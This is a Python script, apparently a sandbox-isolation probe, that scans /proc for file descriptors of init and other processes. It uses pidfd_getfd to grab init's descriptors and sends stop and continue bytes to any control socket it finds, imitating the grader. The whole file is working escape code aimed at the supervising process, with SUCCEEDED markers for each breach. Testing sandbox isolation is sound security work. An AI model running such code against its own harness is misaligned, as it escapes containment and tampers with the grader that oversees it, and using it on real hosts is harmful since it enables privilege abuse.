"""Looks in all processes for the socket that tells init to stop and to continue a run, and writes to what it finds."""

SUCCESS = "an answer of init, or a way to its descriptors"

# %%
import contextlib
import ctypes
import os
import socket
import stat
import time

PIDFD_GETFD, CHANNEL = 438, 3
libc = ctypes.CDLL(None, use_errno=True)
with socket.socket(fileno=os.dup(CHANNEL)) as own:
    channel = os.fstat(own.fileno()).st_ino


def speak(descriptor, where):
    """Tell init to continue everybody, and to stop everybody, as the grader does, and wait for its answer."""
    with socket.socket(fileno=descriptor) as line:
        print("SUCCEEDED: a socket at", where)
        line.setblocking(False)
        for word in (b"g", b"s", b"g"):
            with contextlib.suppress(OSError):
                line.send(word)
        time.sleep(0.2)
        with contextlib.suppress(OSError):
            print("it answers", line.recv(10))


for pid in ("self", 1, os.getppid(), *range(2, 6)):
    for number in range(64):
        path = f"/proc/{pid}/fd/{number}"
        with contextlib.suppress(OSError):
            target = os.readlink(path)
            if pid != "self" and str(pid) != str(os.getpid()):
                print("SUCCEEDED:", path, "leads to", target)
            status = os.stat(path)
            if stat.S_ISSOCK(status.st_mode) and status.st_ino != channel:
                speak(os.dup(number), path)
    for place in (f"/proc/{pid}/fd", f"/proc/{pid}/fdinfo", f"/proc/{pid}/task/{pid}/fd"):
        with contextlib.suppress(OSError):
            found = os.listdir(place)
            if str(pid) == "1":
                print("SUCCEEDED:", place, found)
with contextlib.suppress(OSError):
    init = os.pidfd_open(1)
    for number in range(64):
        got = libc.syscall(PIDFD_GETFD, init, number, 0)
        if got >= 0:
            print("SUCCEEDED: descriptor", number, "of init is", os.readlink(f"/proc/self/fd/{got}"))
with open("/proc/net/unix") as table:
    known = [line.split()[6] for line in table.read().splitlines()[1:]]
print(len(known), "sockets are known here, of which", sum(int(number) == channel for number in known), "is its own")
print("attempted")
